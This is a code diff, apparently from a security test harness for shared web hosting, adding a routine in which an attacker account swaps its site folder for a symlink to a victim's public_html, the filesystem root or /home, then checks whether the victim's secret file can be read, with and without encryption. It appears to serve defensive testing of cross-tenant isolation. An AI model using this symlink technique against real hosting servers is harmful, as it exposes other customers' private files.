@@ -9,6 +9,7 @@ import {
   mkdirSync,
   readdirSync,
   readFileSync,
+  renameSync,
   rmSync,
   symlinkSync,
   writeFileSync,
@@ -166,6 +167,32 @@ async function attempt(one: Attempt, isEncrypted: boolean): Promise<string | und
   return found;
 }
 
+/** The attacker replaces the folder of its website itself by a link. @returns what was reached. */
+async function attemptByRoot(): Promise<object[]> {
+  const theirs = `/home/${victim}/public_html`;
+  put(victim, `${theirs}/plain.txt`, `${SECRET}\n`);
+  const away = `${own}-away`;
+  renameSync(own, away);
+  const open: object[] = [];
+  try {
+    for (const [target, path] of [
+      [theirs, '/plain.txt'],
+      ['/', `${theirs}/plain.txt`],
+      ['/home', `${theirs.slice('/home'.length)}/plain.txt`],
+    ] as const) {
+      link(own, target);
+      for (const isEncrypted of [false, true]) {
+        const [found] = OF_OTHERS.exec(await ask(isEncrypted, { path })) ?? [];
+        if (found !== undefined) open.push({ root: target, path, isEncrypted, found });
+      }
+    }
+  } finally {
+    rmSync(own);
+    renameSync(away, own);
+  }
+  return open;
+}
+
 export interface Outcome {
   readonly attempts: number;
   readonly open: readonly object[];
@@ -197,6 +224,7 @@ async function main(): Promise<void> {
     }
   } while (Date.now() < until);
   put(attacker, `${own}/.htaccess`, '');
+  open.push(...(await attemptByRoot()));
   const log = `/var/log/whmapi1-domlogs/${attacker}/${attacker}.example-error.log`;
   await ask(false, { path: LINKED_ACCESS_FILE });
   const isLogged = readFileSync(log, 'utf8').includes(SECRET);
